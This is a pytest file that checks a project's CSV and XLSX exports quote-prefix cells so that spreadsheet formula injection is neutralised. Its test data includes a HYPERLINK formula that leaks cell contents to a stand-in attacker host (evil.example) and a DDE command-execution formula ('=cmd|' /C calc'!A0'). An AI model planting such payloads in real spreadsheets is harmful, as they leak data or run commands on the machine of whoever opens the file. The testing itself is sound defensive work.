"""Formula injection (issue 17): every CSV and XLSX cell an office or unit wrote stays text.

A task's text and a reminder's subject start with ``=HYPERLINK(…)``, ``+``, ``-``,
``@`` or a tab; every export URL is fetched and every cell holding the payload is checked.
"""

from __future__ import annotations

import csv
import datetime
import io

import pytest
from openpyxl import load_workbook

from luoshi.formats import _set_text
from luoshi.projects.exports import _write
from luoshi.tasks.models import Task
from luoshi.text.cells import FORMULA_LEADS, csv_cell, guard_xlsx_cell
from luoshi.tracking.models import Reminder
from tests.web.dashboards_fixtures import ledger, today

FIXTURES = (ledger, today)  # shared pytest fixtures used by name below

PAYLOAD = '=HYPERLINK("http://evil.example/?d="&A1,"点此查看")'


def _csv_cells(body: bytes) -> list[str]:
    return [c for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for c in row]


def _assert_csv_safe(body: bytes, url: str) -> None:
    hits = [c for c in _csv_cells(body) if "HYPERLINK" in c]
    assert hits, url
    assert all(c.startswith("'=") for c in hits), (url, hits)


def _assert_xlsx_safe(body: bytes, url: str) -> None:
    wb = load_workbook(io.BytesIO(body))
    hits = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if "HYPERLINK" in str(c.value or "")]
    assert hits, url
    for cell in hits:
        assert cell.data_type == "s" and cell.quotePrefix, (url, cell.coordinate)


@pytest.fixture
def poisoned(ledger, supervisor):
    report = ledger["report"]
    Task.objects.filter(report=report, kind="task").update(text=PAYLOAD)
    Reminder.objects.create(
        kind="remind",
        task=ledger["education"],
        due=datetime.date(2026, 3, 25),
        subject=PAYLOAD,
        key="formula-test",
        on=datetime.date(2026, 3, 22),
    )
    return report


def test_every_export_url_keeps_a_formula_as_text(client_for, client, supervisor, poisoned, today):
    office = client_for(supervisor)
    pk = poisoned.pk
    for url in (
        f"/reports/{pk}/export.xlsx",
        f"/dashboard/reports/{pk}/export/ledger.xlsx",
        f"/dashboard/reports/{pk}/export/progress.xlsx",
    ):
        response = office.get(url)
        assert response.status_code == 200, url
        _assert_xlsx_safe(response.content, url)
    for url in (
        f"/dashboard/reports/{pk}/export/ledger.csv",
        f"/dashboard/reports/{pk}/export/progress.csv",
        f"/reports/{pk}/escalations.csv",
    ):
        response = office.get(url)
        assert response.status_code == 200, url
        _assert_csv_safe(response.content, url)
    public = client.get(f"/public/reports/{pk}/tasks.csv")
    assert public.status_code == 200
    _assert_csv_safe(public.content, "public csv")


@pytest.mark.parametrize("lead", FORMULA_LEADS, ids=["eq", "plus", "minus", "at", "tab", "cr"])
def test_each_formula_lead_is_neutralised_in_csv_and_xlsx(lead):
    text = f"{lead}1+1"
    assert csv_cell(text) == "'" + text
    assert csv_cell("正常文字 =1") == "正常文字 =1" and csv_cell(None) == "" and csv_cell(12) == "12"
    body = _write("表", ["事项"], [10], [[text]], set())
    cell = load_workbook(io.BytesIO(body)).active["A2"]
    assert cell.data_type == "s" and cell.quotePrefix and cell.value.lstrip("\r\t") == text.lstrip("\r\t")


def test_the_command_lines_workbook_and_the_shared_guard_keep_text(tmp_path):
    from openpyxl import Workbook

    ws = Workbook().active
    for row, text in enumerate(("=cmd|' /C calc'!A0", "@SUM(A1)", "-2+3"), start=1):
        _set_text(ws.cell(row=row, column=1), text)
        other = ws.cell(row=row, column=2, value=text)
        guard_xlsx_cell(other)
        for cell in (ws.cell(row=row, column=1), other):
            assert cell.data_type == "s" and cell.quotePrefix
